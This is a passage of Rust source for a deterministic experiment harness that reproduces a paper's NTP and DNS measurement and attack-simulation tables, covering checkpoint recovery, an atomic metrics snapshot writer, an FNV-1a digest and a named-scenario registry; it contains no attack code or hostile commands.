            .map_err(|e| CampaignError::io(format!("read {}", path.display()), e))?;
        if n == 0 {
            break;
        }
        let complete = line.last() == Some(&b'\n');
        let body = if complete { &line[..line.len() - 1] } else { &line[..] };
        let decodes = complete
            && std::str::from_utf8(body).is_ok_and(|body| decode_line(schema, body).is_ok());
        if decodes {
            valid += 1;
            valid_bytes += n as u64;
            continue;
        }
        // First invalid or unterminated line: a torn tail if nothing
        // follows, mid-file corruption (quarantine) otherwise.
        let mut rest = Vec::new();
        reader
            .read_to_end(&mut rest)
            .map_err(|e| CampaignError::io(format!("read {}", path.display()), e))?;
        if !rest.is_empty() {
            drop(reader);
            let aside = corrupt_path(path);
            fs::rename(path, &aside).map_err(|e| {
                CampaignError::io(
                    format!("quarantine {} -> {}", path.display(), aside.display()),
                    e,
                )
            })?;
            return Ok(Recovery::Quarantined { quarantined_to: aside, line: valid + 1 });
        }
        // Torn tail: drop it.
        drop(reader);
        truncate_to(path, valid_bytes)?;
        return Ok(Recovery::Clean(valid));
    }
    Ok(Recovery::Clean(valid))
}

fn truncate_to(path: &Path, len: u64) -> Result<(), CampaignError> {
    let file = File::options()
        .write(true)
        .open(path)
        .map_err(|e| CampaignError::io(format!("open {}", path.display()), e))?;
    file.set_len(len).map_err(|e| CampaignError::io(format!("truncate {}", path.display()), e))?;
    Ok(())
}

/// An append-mode writer for one shard's checkpoint, flushing per record
/// so every completed trial survives a kill.
pub struct Appender {
    file: File,
}

impl Appender {
    /// Opens (creating if absent) the shard checkpoint for appending.
    ///
    /// # Errors
    ///
    /// I/O failures.
    pub fn open(path: &Path) -> Result<Appender, CampaignError> {
        let file = File::options()
            .append(true)
            .create(true)
            .open(path)
            .map_err(|e| CampaignError::io(format!("open {}", path.display()), e))?;
        Ok(Appender { file })
    }

    /// Appends one record line (adds the newline) and flushes it to the
    /// OS so the record is durable against a process kill.
    ///
    /// # Errors
    ///
    /// I/O failures.
    pub fn append_line(&mut self, line: &str) -> Result<(), CampaignError> {
        let mut buf = Vec::with_capacity(line.len() + 1);
        buf.extend_from_slice(line.as_bytes());
        buf.push(b'\n');
        self.file.write_all(&buf).map_err(|e| CampaignError::io("append record", e))?;
        self.file.flush().map_err(|e| CampaignError::io("flush record", e))
    }
}

/// Removes a campaign directory's shard checkpoints (all of them,
/// whatever shard plan wrote them, including quarantined `.corrupt`
/// files), manifest and summary — the `--fresh` path. Missing files are
/// fine.
///
/// # Errors
///
/// I/O failures other than "not found".
pub fn wipe(dir: &Path) -> Result<(), CampaignError> {
    for path in existing_shard_files(dir)? {
        remove_if_present(&path)?;
    }
    remove_if_present(&manifest_path(dir))?;
    remove_if_present(&summary_path(dir))?;
    Ok(())
}

fn remove_if_present(path: &Path) -> Result<(), CampaignError> {
    match fs::remove_file(path) {
        Ok(()) => Ok(()),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(()),
        Err(e) => Err(CampaignError::io(format!("remove {}", path.display()), e)),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::record::{encode_line, Field, FieldKind, Record, Value};

    const SCHEMA: &Schema = &[Field { name: "x", kind: FieldKind::U64 }];

    fn tmp(name: &str) -> PathBuf {
        let dir = std::env::temp_dir().join(format!("campaign-ckpt-{}-{name}", std::process::id()));
        fs::remove_dir_all(&dir).ok();
        fs::create_dir_all(&dir).expect("mkdir");
        dir
    }

    fn line(x: u64) -> String {
        encode_line(SCHEMA, &Record(vec![Value::U64(x)]))
    }

    #[test]
    fn append_then_recover_counts_records() {
        let dir = tmp("count");
        let path = shard_path(&dir, 0);
        let mut a = Appender::open(&path).expect("open");
        for x in 0..5 {
            a.append_line(&line(x)).expect("append");
        }
        drop(a);
        assert_eq!(recover(&path, SCHEMA).expect("recover"), Recovery::Clean(5));
        fs::remove_dir_all(dir).ok();
    }

    #[test]
    fn torn_tail_is_dropped_and_resume_appends_cleanly() {
        let dir = tmp("torn");
        let path = shard_path(&dir, 1);
        let mut a = Appender::open(&path).expect("open");
        a.append_line(&line(1)).expect("append");
        drop(a);
        // Simulate a kill mid-write: a partial line without newline.
        let mut f = File::options().append(true).open(&path).expect("open");
        f.write_all(b"{\"x\":4").expect("tear");
        drop(f);
        assert_eq!(recover(&path, SCHEMA).expect("recover"), Recovery::Clean(1));
        // The file is now exactly the valid prefix; appending resumes it.
        let mut a = Appender::open(&path).expect("reopen");
        a.append_line(&line(2)).expect("append");
        drop(a);
        let content = fs::read_to_string(&path).expect("read");
        assert_eq!(content, format!("{}\n{}\n", line(1), line(2)));
        fs::remove_dir_all(dir).ok();
    }

    #[test]
    fn mid_file_corruption_quarantines_the_shard() {
        let dir = tmp("corrupt");
        let path = shard_path(&dir, 2);
        let original = format!("{}\ngarbage\n{}\n", line(1), line(2));
        fs::write(&path, &original).expect("write");
        match recover(&path, SCHEMA).expect("recover") {
            Recovery::Quarantined { quarantined_to, line } => {
                assert_eq!(line, 2);
                assert_eq!(quarantined_to, corrupt_path(&path));
                // The corrupt bytes are preserved for forensics...
                assert_eq!(fs::read_to_string(&quarantined_to).expect("read"), original);
                // ...and the shard restarts from nothing.
                assert!(!path.exists());
            }
            other => panic!("expected quarantine, got {other:?}"),
        }
        assert_eq!(recover(&path, SCHEMA).expect("recover"), Recovery::Clean(0));
        fs::remove_dir_all(dir).ok();
    }

    #[test]
    fn missing_file_is_zero_records() {
        let dir = tmp("missing");
        assert_eq!(recover(&shard_path(&dir, 9), SCHEMA).expect("recover"), Recovery::Clean(0));
        fs::remove_dir_all(dir).ok();
    }

    #[test]
    fn wipe_removes_quarantined_files_too() {
        let dir = tmp("wipe");
        let path = shard_path(&dir, 0);
        fs::write(&path, format!("{}\ngarbage\n{}\n", line(1), line(2))).expect("write");
        let _ = recover(&path, SCHEMA).expect("recover quarantines");
        assert!(corrupt_path(&path).exists());
        wipe(&dir).expect("wipe");
        assert!(!corrupt_path(&path).exists());
        fs::remove_dir_all(dir).ok();
    }
}
