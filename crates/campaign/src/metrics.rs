//! The live campaign metrics sidecar: `metrics.json`.
//!
//! A supervised run rewrites this file **atomically** (write to a temp
//! file, rename over) once per supervision tick, so an operator — or a
//! dashboard polling the campaign directory — always reads one coherent
//! snapshot: per-shard records on disk, lease states, attempt counts, the
//! tick-based record rate, and incremental estimator snapshots folded
//! from the records as they land.
//!
//! Two snapshot flavours share the schema:
//!
//! * **Live** (`"final": false`): carries the supervision `tick` and the
//!   `records_per_tick` rate. Ticks are wall-paced, so live snapshots are
//!   *advisory* — their volatile fields differ between reruns.
//! * **Final** (`"final": true`): written after the merge by both the
//!   plain executor and the supervisor. It is normalized — no tick, no
//!   rate, no worker count — and built purely from the merged
//!   [`Summary`], so it is **bit-identical** for any worker count and for
//!   in-process vs. subprocess execution. The determinism suite pins
//!   this.

use std::path::{Path, PathBuf};

use crate::error::CampaignError;
use crate::stats::{Aggregate, FieldAgg};
use crate::summary::Summary;

/// The sidecar's file name inside a campaign directory.
pub const METRICS_FILE: &str = "metrics.json";

/// The `metrics.json` path for a campaign directory.
pub fn metrics_path(dir: &Path) -> PathBuf {
    dir.join(METRICS_FILE)
}

/// One shard's slice of a metrics snapshot.
#[derive(Debug, Clone)]
pub struct ShardMetric {
    /// Shard index.
    pub shard: usize,
    /// Records the plan assigned to this shard.
    pub planned: usize,
    /// Records observed on disk (live) or merged (final).
    pub records: usize,
    /// Worker spawns consumed so far (0 for an unsupervised run).
    pub attempts: usize,
    /// Lease state: `pending`, `running`, `done`, or `quarantined`.
    pub state: &'static str,
}

/// One field's incremental estimator reading: the success rate of a
/// boolean field or the running mean of a numeric one, with the sample
/// count that backs it.
#[derive(Debug, Clone)]
pub struct Estimator {
    /// Schema field name.
    pub field: &'static str,
    /// Which statistic `value` is: `"rate"` or `"mean"`.
    pub stat: &'static str,
    /// The current estimate.
    pub value: f64,
    /// Samples folded in so far.
    pub count: u64,
}

/// Projects an [`Aggregate`] onto its compact estimator snapshot: one
/// `rate` per boolean field, one `mean` per numeric/histogram field
/// (string fields have no scalar estimator). Pure function of the
/// aggregate state, so the final snapshot inherits the merge's
/// determinism.
pub fn estimators_from(agg: &Aggregate) -> Vec<Estimator> {
    agg.schema
        .iter()
        .zip(&agg.fields)
        .filter_map(|(field, (fagg, _nulls))| match fagg {
            FieldAgg::Bool { trues, falses } => {
                let n = trues + falses;
                let rate = if n == 0 { 0.0 } else { *trues as f64 / n as f64 };
                Some(Estimator { field: field.name, stat: "rate", value: rate, count: n })
            }
            FieldAgg::Num(num) => Some(Estimator {
                field: field.name,
                stat: "mean",
                value: num.welford.mean(),
                count: num.welford.count(),
            }),
            FieldAgg::Hist(hist) => Some(Estimator {
                field: field.name,
                stat: "mean",
                value: hist.welford.mean(),
                count: hist.welford.count(),
            }),
            FieldAgg::Str { .. } => None,
        })
        .collect()
}

/// One coherent metrics snapshot — what `metrics.json` holds.
#[derive(Debug, Clone)]
pub struct Metrics {
    /// Scenario name.
    pub scenario: &'static str,
    /// Scale label ("quick" / "paper" / "custom").
    pub scale_label: String,
    /// Master seed.
    pub master_seed: u64,
    /// Supervision tick of this snapshot; `None` marks the normalized
    /// final snapshot (which also omits the rate and worker count).
    pub tick: Option<u64>,
    /// Max shards in flight; `None` in the final snapshot (the result
    /// must not depend on it).
    pub workers: Option<usize>,
    /// Whether every shard delivered its planned range (final) or has so
    /// far (live).
    pub complete: bool,
    /// Per-shard progress, in shard order.
    pub per_shard: Vec<ShardMetric>,
    /// Incremental estimator readings (empty until records land).
    pub estimators: Vec<Estimator>,
}

impl Metrics {
    /// The normalized final snapshot for a merged summary: per-shard
    /// records/attempts from the coverage report, no volatile fields.
    pub fn final_snapshot(summary: &Summary) -> Metrics {
        Metrics {
            scenario: summary.scenario,
            scale_label: summary.scale_label.clone(),
            master_seed: summary.master_seed,
            tick: None,
            workers: None,
            complete: summary.complete,
            per_shard: summary
                .coverage
                .iter()
                .map(|c| ShardMetric {
                    shard: c.shard,
                    planned: c.planned,
                    records: c.records,
                    attempts: c.attempts,
                    state: if c.quarantined { "quarantined" } else { "done" },
                })
                .collect(),
            estimators: estimators_from(&summary.aggregate),
        }
    }

    /// Total records across shards.
    pub fn records(&self) -> usize {
        self.per_shard.iter().map(|s| s.records).sum()
    }

    /// Total planned records across shards.
    pub fn planned(&self) -> usize {
        self.per_shard.iter().map(|s| s.planned).sum()
    }

    /// Total worker spawns across shards.
    pub fn attempts(&self) -> usize {
        self.per_shard.iter().map(|s| s.attempts).sum()
    }

    /// Quarantined shard count.
    pub fn quarantined(&self) -> usize {
        self.per_shard.iter().filter(|s| s.state == "quarantined").count()
    }

    /// Records per supervision tick — the live throughput signal. `None`
    /// for the final snapshot (ticks are pacing, never results).
    pub fn records_per_tick(&self) -> Option<f64> {
        self.tick.map(|t| self.records() as f64 / t.max(1) as f64)
    }

    /// Renders the snapshot as JSON (validated well-formed by the test
    /// suite and CI's `jsoncheck`).
    pub fn render_json(&self) -> String {
        use std::fmt::Write as _;
        let mut out = String::new();
        let _ = write!(
            out,
            "{{\n  \"campaign\": \"{}\",\n  \"scale\": \"{}\",\n  \"master_seed\": {},\n  \
             \"final\": {},\n  \"tick\": {},\n  \"workers\": {},\n  \"shards\": {},\n  \
             \"records\": {},\n  \"planned\": {},\n  \"attempts\": {},\n  \"quarantined\": {},\n  \
             \"complete\": {},\n  \"records_per_tick\": {},\n  \"per_shard\": [",
            self.scenario,
            self.scale_label,
            self.master_seed,
            self.tick.is_none(),
            self.tick.map_or("null".into(), |t| t.to_string()),
            self.workers.map_or("null".into(), |w| w.to_string()),
            self.per_shard.len(),
            self.records(),
            self.planned(),
            self.attempts(),
            self.quarantined(),
            self.complete,
            self.records_per_tick().map_or("null".into(), |r| r.to_string()),
        );
        for (i, s) in self.per_shard.iter().enumerate() {
            let _ = write!(
                out,
                "{}\n    {{ \"shard\": {}, \"planned\": {}, \"records\": {}, \"attempts\": {}, \
                 \"state\": \"{}\" }}",
                if i > 0 { "," } else { "" },
                s.shard,
                s.planned,
                s.records,
                s.attempts,
                s.state
            );
        }
        out.push_str("\n  ],\n  \"estimators\": [");
        for (i, e) in self.estimators.iter().enumerate() {
            let _ = write!(
                out,
                "{}\n    {{ \"field\": \"{}\", \"stat\": \"{}\", \"value\": {}, \"count\": {} }}",
                if i > 0 { "," } else { "" },
                e.field,
                e.stat,
                e.value,
                e.count
            );
        }
        out.push_str("\n  ]\n}\n");
        out
    }

    /// Writes the snapshot atomically: the rendered JSON goes to a
    /// sibling temp file which is then renamed over `metrics.json`, so a
    /// concurrent reader sees either the previous snapshot or this one —
    /// never a torn write.
    ///
    /// # Errors
    ///
    /// I/O failures writing or renaming inside `dir`.
    pub fn write(&self, dir: &Path) -> Result<PathBuf, CampaignError> {
        let path = metrics_path(dir);
        let tmp = dir.join(".metrics.json.tmp");
        std::fs::write(&tmp, self.render_json())
            .map_err(|e| CampaignError::io(format!("write {}", tmp.display()), e))?;
        std::fs::rename(&tmp, &path).map_err(|e| {
            CampaignError::io(format!("rename {} over metrics.json", tmp.display()), e)
        })?;
        Ok(path)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> Metrics {
        Metrics {
            scenario: "chronos_bound",
            scale_label: "quick".into(),
            master_seed: 2020,
            tick: Some(7),
            workers: Some(3),
            complete: false,
            per_shard: vec![
                ShardMetric { shard: 0, planned: 8, records: 8, attempts: 1, state: "done" },
                ShardMetric { shard: 1, planned: 8, records: 3, attempts: 2, state: "running" },
            ],
            estimators: vec![Estimator { field: "success", stat: "rate", value: 0.5, count: 11 }],
        }
    }

    #[test]
    fn totals_and_rate_fold_over_shards() {
        let m = sample();
        assert_eq!(m.records(), 11);
        assert_eq!(m.planned(), 16);
        assert_eq!(m.attempts(), 3);
        assert_eq!(m.quarantined(), 0);
        assert_eq!(m.records_per_tick(), Some(11.0 / 7.0));
        let final_like = Metrics { tick: None, ..m };
        assert_eq!(final_like.records_per_tick(), None);
    }

    #[test]
    fn rendered_snapshot_is_well_formed_and_atomic() {
        let m = sample();
        let json = m.render_json();
        assert!(json.contains("\"final\": false"));
        assert!(json.contains("\"state\": \"running\""));
        assert!(json.contains("\"stat\": \"rate\""));
        let dir = std::env::temp_dir().join(format!("metrics-test-{}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("mkdir");
        let path = m.write(&dir).expect("atomic write");
        assert_eq!(std::fs::read_to_string(&path).expect("readable"), json);
        assert!(!dir.join(".metrics.json.tmp").exists(), "temp file renamed away");
        std::fs::remove_dir_all(dir).ok();
    }
}
