//! The campaign digest: an incremental FNV-1a 64 over the merged record
//! stream (each encoded line plus its terminating newline, in `(shard,
//! index)` order).
//!
//! The digest is the campaign's identity check: it must be bit-identical
//! for any shard count, any worker schedule, in-process vs. subprocess
//! execution, and across an interrupt + resume — because the *stream* is
//! identical in all of those cases. A dependency-free 64-bit hash is
//! plenty: this detects divergence, it does not authenticate.

/// Incremental FNV-1a 64.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Digest(u64);

const OFFSET: u64 = 0xcbf2_9ce4_8422_2325;
const PRIME: u64 = 0x0000_0100_0000_01b3;

impl Digest {
    /// A fresh digest.
    pub fn new() -> Self {
        Digest(OFFSET)
    }

    /// Folds raw bytes in.
    pub fn update(&mut self, bytes: &[u8]) {
        let mut h = self.0;
        for &b in bytes {
            h ^= u64::from(b);
            h = h.wrapping_mul(PRIME);
        }
        self.0 = h;
    }

    /// Folds one record line in (the line's bytes plus a newline, exactly
    /// as it appears in a checkpoint file or on a worker pipe).
    pub fn update_line(&mut self, line: &str) {
        self.update(line.as_bytes());
        self.update(b"\n");
    }

    /// The digest as a fixed-width hex string.
    pub fn hex(&self) -> String {
        format!("{:016x}", self.0)
    }
}

impl Default for Digest {
    fn default() -> Self {
        Digest::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn known_vectors() {
        // FNV-1a 64 test vectors.
        let mut d = Digest::new();
        assert_eq!(d.hex(), "cbf29ce484222325");
        d.update(b"a");
        assert_eq!(d.hex(), "af63dc4c8601ec8c");
    }

    #[test]
    fn line_feeding_equals_byte_feeding() {
        let mut a = Digest::new();
        a.update_line("x");
        a.update_line("yz");
        let mut b = Digest::new();
        b.update(b"x\nyz\n");
        assert_eq!(a, b);
    }

    #[test]
    fn order_sensitivity() {
        let mut a = Digest::new();
        a.update_line("one");
        a.update_line("two");
        let mut b = Digest::new();
        b.update_line("two");
        b.update_line("one");
        assert_ne!(a, b, "the digest must pin the merge order");
    }
}
