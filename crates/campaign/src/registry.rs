//! The named-scenario registry: every reproducible artifact of the paper
//! is addressable by name, with a typed record schema and a per-trial
//! entry point that is a pure function of `(Scale, master seed, index)`.
//!
//! A scenario's trials are the *per-item* units of its table or figure —
//! one client model for Table I, one attack case for Table II, one
//! nameserver / resolver / client / server probe for the measurement
//! scans, one `N` value for the Chronos bound — so a campaign can split
//! the index space into shards at any granularity without changing a
//! single record. Trial seeds are derived from the **global** index
//! (matching the seeds the `timeshift::experiments` drivers use), never
//! from the shard, which is the whole determinism story.

use measure::prelude::*;
use ntp::prelude::ClientKind;
use runner::scan_seed;
use timeshift::experiments::{self, figspec, salts, Scale, Table2Case};

use crate::record::{opt, Field, FieldKind, HistSpec, Record, Schema};

/// A built campaign: the scenario instantiated at a [`Scale`], holding its
/// generated population. Trials are independent and callable from any
/// thread; implementations must be pure functions of the build inputs and
/// the trial index.
pub trait Campaign: Send + Sync {
    /// Number of trials (records) at this scale.
    fn trials(&self) -> usize;

    /// Runs trial `idx` and returns its record (conforming to the
    /// scenario's schema).
    fn run_trial(&self, idx: usize) -> Record;
}

/// One registered scenario.
pub struct Scenario {
    /// Registry name (`campaign run <name>`).
    pub name: &'static str,
    /// What the scenario reproduces.
    pub about: &'static str,
    /// The typed per-trial record schema.
    pub schema: &'static Schema,
    build: fn(Scale) -> Box<dyn Campaign>,
}

impl Scenario {
    /// Instantiates the scenario at `scale` (generates its population).
    pub fn build(&self, scale: Scale) -> Box<dyn Campaign> {
        (self.build)(scale)
    }
}

impl std::fmt::Debug for Scenario {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Scenario").field("name", &self.name).finish_non_exhaustive()
    }
}

/// All registered scenarios, in registry order.
pub fn all() -> &'static [Scenario] {
    &REGISTRY
}

/// Looks a scenario up by name.
pub fn find(name: &str) -> Option<&'static Scenario> {
    REGISTRY.iter().find(|s| s.name == name)
}

static REGISTRY: [Scenario; 10] = [
    Scenario {
        name: "table1",
        about: "Table I: boot-time attack verified live against all seven NTP clients",
        schema: TABLE1_SCHEMA,
        build: build_table1,
    },
    Scenario {
        name: "table2",
        about: "Table II: end-to-end run-time attack durations (P1/P2)",
        schema: TABLE2_SCHEMA,
        build: build_table2,
    },
    Scenario {
        name: "fig5",
        about: "Fig. 5: PMTUD fragmentation floors of domain nameservers",
        schema: PMTUD_SCHEMA,
        build: build_fig5,
    },
    Scenario {
        name: "fig6",
        about: "Fig. 6: TTLs of cached pool records (open-resolver survey)",
        schema: SNOOP_SCHEMA,
        build: build_snoop,
    },
    Scenario {
        name: "fig7",
        about: "Fig. 7: t_first - t_avg latency side channel (open-resolver survey)",
        schema: SNOOP_SCHEMA,
        build: build_snoop,
    },
    Scenario {
        name: "table4_snoop",
        about: "Table IV: pool.ntp.org caching state via RD=0 snooping",
        schema: SNOOP_SCHEMA,
        build: build_snoop,
    },
    Scenario {
        name: "table5_adstudy",
        about: "Table V: fragment acceptance / DNSSEC validation per ad client",
        schema: TABLE5_SCHEMA,
        build: build_table5,
    },
    Scenario {
        name: "ratelimit",
        about: "SVII-A: rate limiting of pool.ntp.org servers (KoD / silent / config)",
        schema: RATELIMIT_SCHEMA,
        build: build_ratelimit,
    },
    Scenario {
        name: "pmtud",
        about: "SVII-B: fragmentation floors of the 30 pool.ntp.org nameservers",
        schema: PMTUD_SCHEMA,
        build: build_pmtud,
    },
    Scenario {
        name: "chronos_bound",
        about: "SVI-C: attacker pool fraction vs honest lookups (2/3 bound)",
        schema: CHRONOS_SCHEMA,
        build: build_chronos_bound,
    },
];

// ---------------------------------------------------------------- Table I

const TABLE1_SCHEMA: &Schema = &[
    Field { name: "client", kind: FieldKind::Str },
    Field { name: "pool_share", kind: FieldKind::F64 },
    Field { name: "boot_time", kind: FieldKind::Bool },
    Field { name: "run_time", kind: FieldKind::Bool },
    Field { name: "observed_boot_shift", kind: FieldKind::F64 },
];

struct Table1Campaign {
    seed: u64,
}

impl Campaign for Table1Campaign {
    fn trials(&self) -> usize {
        ClientKind::all().len()
    }
    fn run_trial(&self, idx: usize) -> Record {
        let row = experiments::table1_row(self.seed, ClientKind::all()[idx]);
        Record(vec![
            row.client.into(),
            opt(row.pool_share),
            row.boot_time.into(),
            opt(row.run_time),
            row.observed_boot_shift.into(),
        ])
    }
}

fn build_table1(scale: Scale) -> Box<dyn Campaign> {
    Box::new(Table1Campaign { seed: scale.seed })
}

// --------------------------------------------------------------- Table II

const TABLE2_SCHEMA: &Schema = &[
    Field { name: "client", kind: FieldKind::Str },
    Field { name: "scenario", kind: FieldKind::Str },
    Field { name: "discovery", kind: FieldKind::Str },
    Field { name: "success", kind: FieldKind::Bool },
    Field { name: "duration_mins", kind: FieldKind::F64 },
    Field { name: "paper_mins", kind: FieldKind::F64 },
    Field { name: "observed_shift", kind: FieldKind::F64 },
    Field { name: "packets_sent", kind: FieldKind::U64 },
    // The `explain_` prefix routes these through the summary's "explain"
    // section: a per-trial account of *why* an attack failed (which drop
    // family dominated) built from the simulator's drop taxonomy.
    Field { name: "explain_fail_stage", kind: FieldKind::Str },
    Field { name: "explain_frag_drops", kind: FieldKind::U64 },
    Field { name: "explain_verify_drops", kind: FieldKind::U64 },
    Field { name: "explain_total_drops", kind: FieldKind::U64 },
];

struct Table2Campaign {
    seed: u64,
    cases: Vec<Table2Case>,
}

impl Campaign for Table2Campaign {
    fn trials(&self) -> usize {
        self.cases.len()
    }
    fn run_trial(&self, idx: usize) -> Record {
        let case = &self.cases[idx];
        let row = experiments::table2_row(self.seed, case);
        Record(vec![
            row.client.into(),
            row.scenario.into(),
            case.scenario.label().into(),
            row.outcome.success.into(),
            opt(row.duration_mins),
            row.paper_mins.into(),
            row.outcome.observed_shift.into(),
            row.outcome.packets_sent.into(),
            row.outcome.fail_stage().into(),
            row.outcome.frag_drops.into(),
            row.outcome.verify_drops.into(),
            row.outcome.total_drops.into(),
        ])
    }
}

fn build_table2(scale: Scale) -> Box<dyn Campaign> {
    Box::new(Table2Campaign { seed: scale.seed, cases: experiments::table2_cases() })
}

// ------------------------------------------------- Fig. 5 + SVII-B PMTUD

const PMTUD_SCHEMA: &Schema = &[
    Field { name: "answered", kind: FieldKind::Bool },
    Field { name: "signed", kind: FieldKind::Bool },
    Field { name: "vulnerable", kind: FieldKind::Bool },
    Field { name: "min_fragment_size", kind: FieldKind::U64 },
];

/// Shared shape of the small population-driven scans whose populations are
/// inherently materialized (e.g. the globally-shuffled 30 pool
/// nameservers): a generated population, the per-item seed base, and a
/// flat record projection.
struct PopCampaign<S: Send + Sync> {
    pop: Vec<S>,
    base_seed: u64,
    record: fn(&S, u64) -> Record,
}

impl<S: Send + Sync> Campaign for PopCampaign<S> {
    fn trials(&self) -> usize {
        self.pop.len()
    }
    fn run_trial(&self, idx: usize) -> Record {
        (self.record)(&self.pop[idx], scan_seed(self.base_seed, idx))
    }
}

/// The lazily-generated population scans: trial `idx` derives its spec
/// on demand from `(pop_seed, idx)` — a pure function, O(1) work — so a
/// paper-scale campaign (1.58 M resolver trials) holds **no** population
/// `Vec` at all: building the campaign is O(1) memory, and shard workers
/// touch only the specs in their own index range.
struct LazyPopCampaign<S> {
    trials: usize,
    pop_seed: u64,
    spec_at: fn(u64, usize) -> S,
    base_seed: u64,
    record: fn(&S, u64) -> Record,
}

impl<S> Campaign for LazyPopCampaign<S> {
    fn trials(&self) -> usize {
        self.trials
    }
    fn run_trial(&self, idx: usize) -> Record {
        let spec = (self.spec_at)(self.pop_seed, idx);
        (self.record)(&spec, scan_seed(self.base_seed, idx))
    }
}

fn pmtud_record(spec: &NameserverSpec, seed: u64) -> Record {
    let v = scan_nameserver(spec, seed);
    Record(vec![
        v.answered.into(),
        v.signed.into(),
        v.vulnerable().into(),
        opt(v.min_fragment_size),
    ])
}

fn build_fig5(scale: Scale) -> Box<dyn Campaign> {
    // Population and per-item seeds match `experiments::fig5`.
    Box::new(LazyPopCampaign {
        trials: scale.domains,
        pop_seed: scale.seed ^ salts::FIG5_POP,
        spec_at: domain_nameserver_at,
        base_seed: scale.seed ^ salts::FIG5_SCAN,
        record: pmtud_record,
    })
}

fn build_pmtud(scale: Scale) -> Box<dyn Campaign> {
    // Population and per-item seeds match `experiments::pool_ns_scan`.
    Box::new(PopCampaign {
        pop: pool_nameservers(scale.seed ^ salts::POOL_NS_POP),
        base_seed: scale.seed ^ salts::POOL_NS_SCAN,
        record: pmtud_record,
    })
}

// --------------------------------- Table IV / Fig. 6 / Fig. 7 (snooping)

/// Fig. 6 bucketing: TTLs in `[0, FIG6_MAX)` at `FIG6_BUCKET`-second
/// granularity, derived from [`figspec`] so the registry and the legacy
/// `measure::snoop::ttl_histogram` path can never drift apart.
const FIG6_TTL_HIST: HistSpec = HistSpec {
    lo: 0.0,
    width: figspec::FIG6_BUCKET as f64,
    bins: figspec::FIG6_MAX.div_ceil(figspec::FIG6_BUCKET) as usize,
};

/// Fig. 7 bucketing: timing differences clamped to `±FIG7_CLAMP_MS`,
/// `FIG7_BUCKET_MS`-wide bins, one extra bin so the positive clamp edge
/// lands in its own bucket — the exact rule of
/// `measure::snoop::timing_histogram`.
const FIG7_TIMING_HIST: HistSpec = HistSpec {
    lo: -figspec::FIG7_CLAMP_MS,
    width: figspec::FIG7_BUCKET_MS,
    bins: (2.0 * figspec::FIG7_CLAMP_MS / figspec::FIG7_BUCKET_MS) as usize + 1,
};

const SNOOP_SCHEMA: &Schema = &[
    Field { name: "verified", kind: FieldKind::Bool },
    Field { name: "cached_count", kind: FieldKind::U64 },
    Field { name: "apex_a_ttl", kind: FieldKind::HistU64(FIG6_TTL_HIST) },
    Field { name: "accepts_fragments", kind: FieldKind::Bool },
    Field { name: "timing_diff_ms", kind: FieldKind::HistF64(FIG7_TIMING_HIST) },
];

fn snoop_record(spec: &OpenResolverSpec, seed: u64) -> Record {
    let o = scan_resolver(spec, seed);
    Record(vec![
        o.verified.into(),
        o.cached_total().into(),
        opt(o.apex_a_ttl()),
        o.accepts_fragments.into(),
        opt(o.timing_diff_ms),
    ])
}

fn build_snoop(scale: Scale) -> Box<dyn Campaign> {
    // Population and per-item seeds match `experiments::resolver_survey`;
    // the population is the paper's 1.58 M open resolvers at paper scale,
    // so it is never materialized — each trial derives its spec on demand.
    Box::new(LazyPopCampaign {
        trials: scale.resolvers,
        pop_seed: scale.seed,
        spec_at: open_resolver_at,
        base_seed: scale.seed ^ salts::SNOOP_SCAN,
        record: snoop_record,
    })
}

// ---------------------------------------------------------------- Table V

const TABLE5_SCHEMA: &Schema = &[
    Field { name: "region", kind: FieldKind::Str },
    Field { name: "mobile", kind: FieldKind::Bool },
    Field { name: "google_resolver", kind: FieldKind::Bool },
    Field { name: "valid", kind: FieldKind::Bool },
    Field { name: "accepts_tiny", kind: FieldKind::Bool },
    Field { name: "accepts_any", kind: FieldKind::Bool },
    Field { name: "validates", kind: FieldKind::Bool },
];

fn table5_record(spec: &AdClientSpec, seed: u64) -> Record {
    let r = run_client(spec, seed);
    Record(vec![
        spec.region.name().into(),
        spec.mobile.into(),
        spec.google_resolver.into(),
        r.valid().into(),
        r.accepts_tiny().into(),
        r.accepts_any().into(),
        r.validates().into(),
    ])
}

/// Table V needs the population scale threaded alongside the pop seed
/// (its per-index accessor is `(seed, fraction, idx)`), so it gets its
/// own lazy campaign rather than forcing a third parameter through
/// [`LazyPopCampaign`]'s fn pointer.
struct AdStudyCampaign {
    trials: usize,
    pop_seed: u64,
    base_seed: u64,
    fraction: f64,
}

impl Campaign for AdStudyCampaign {
    fn trials(&self) -> usize {
        self.trials
    }
    fn run_trial(&self, idx: usize) -> Record {
        let spec = ad_client_at(self.pop_seed, self.fraction, idx);
        table5_record(&spec, scan_seed(self.base_seed, idx))
    }
}

fn build_table5(scale: Scale) -> Box<dyn Campaign> {
    // Population and per-item seeds match `experiments::table5`.
    Box::new(AdStudyCampaign {
        trials: ad_client_count(scale.ad_fraction),
        pop_seed: scale.seed ^ salts::TABLE5_POP,
        base_seed: scale.seed ^ salts::TABLE5_SCAN,
        fraction: scale.ad_fraction,
    })
}

// ------------------------------------------------------------ SVII-A scan

const RATELIMIT_SCHEMA: &Schema = &[
    Field { name: "kod_seen", kind: FieldKind::Bool },
    Field { name: "rate_limiting", kind: FieldKind::Bool },
    Field { name: "config_open", kind: FieldKind::Bool },
    Field { name: "first_half", kind: FieldKind::U64 },
    Field { name: "second_half", kind: FieldKind::U64 },
];

fn ratelimit_record(spec: &PoolServerSpec, seed: u64) -> Record {
    let v = scan_server(spec, seed);
    Record(vec![
        v.kod_seen.into(),
        // Matches the aggregate's counting rule: KoD is a clear indicator.
        (v.rate_limiting() || v.kod_seen).into(),
        v.config_open.into(),
        v.first_half.into(),
        v.second_half.into(),
    ])
}

fn build_ratelimit(scale: Scale) -> Box<dyn Campaign> {
    // Population and per-item seeds match `experiments::ratelimit_scan`.
    Box::new(LazyPopCampaign {
        trials: scale.pool_servers,
        pop_seed: scale.seed ^ salts::RATELIMIT_POP,
        spec_at: pool_server_at,
        base_seed: scale.seed ^ salts::RATELIMIT_SCAN,
        record: ratelimit_record,
    })
}

// ----------------------------------------------------- Chronos 2/3 bound

const CHRONOS_SCHEMA: &Schema = &[
